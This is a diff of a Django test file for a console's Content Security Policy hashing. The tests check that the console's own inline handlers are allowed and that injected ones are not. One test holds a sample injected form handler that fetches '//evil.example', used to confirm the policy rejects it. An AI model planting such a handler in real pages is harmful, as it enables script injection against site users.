@@ -247,23 +247,18 @@ def test_the_consoles_own_inline_scripts_and_handlers_are_allowed(owner, org, ca
     assert "new-secret" in resp.content.decode()
     found |= assert_inline_code_allowed(resp)
     # What the console has today: the keys' confirm script, the new key's copy script,
-    # the organization switcher, and the members page's confirm-before-removing handlers.
+    # and the organization switcher (the members page reuses the confirm script).
     assert any("form[data-confirm]" in source for source in found)
     assert any("copy-secret" in source for source in found)
     assert "this.form.submit()" in found
-    assert any(source.startswith("return confirm('Remove o\\u0027bob") for source in found), found
-    assert any(source.startswith("return confirm('Leave Alpha \\u003CLabs") for source in found), found
 
 
-@pytest.mark.django_db
-def test_an_injected_handler_would_not_be_allowed(owner, org):
-    # A handler that does more than confirm a literal gets no hash, whatever the page says.
+def test_an_injected_handler_would_not_be_allowed():
+    # Only handlers written literally in templates/ are hashed; nothing a page carries is.
     from gateway.middleware import content_security_policy
 
     evil = "return confirm('x') && fetch('//evil.example')"
-    assert sha256(evil) not in content_security_policy(f'<form onsubmit="{evil}">')
-    benign = r"return confirm('Remove bob\u0040alpha.example?')"
-    assert sha256(benign) in content_security_policy(f'<form onsubmit="{benign}">')
+    assert sha256(evil) not in content_security_policy()
 
 
 def test_social_login_providers_may_receive_the_login_form(settings):
